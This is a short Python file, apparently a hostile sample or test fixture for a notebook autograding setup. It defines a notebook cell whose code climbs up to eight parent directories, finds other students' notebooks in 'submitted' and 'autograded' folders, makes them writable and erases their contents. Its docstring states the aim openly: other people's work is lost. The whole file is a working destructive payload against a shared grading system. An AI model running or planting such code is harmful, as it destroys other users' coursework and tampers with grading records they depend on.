"""The notebook overwrites what others handed in, and their graded notebooks.

Gain: theirs are lost.
"""

CELLS = {
    "start": """
from pathlib import Path

for above in [Path.cwd(), *Path.cwd().parents][:8]:
    for folder in ("submitted", "autograded"):
        for file in sorted(Path(above, folder).glob("*/*/*.ipynb")):
            if file.parent != Path.cwd():
                file.chmod(0o644)
                file.write_text("")
"""
}
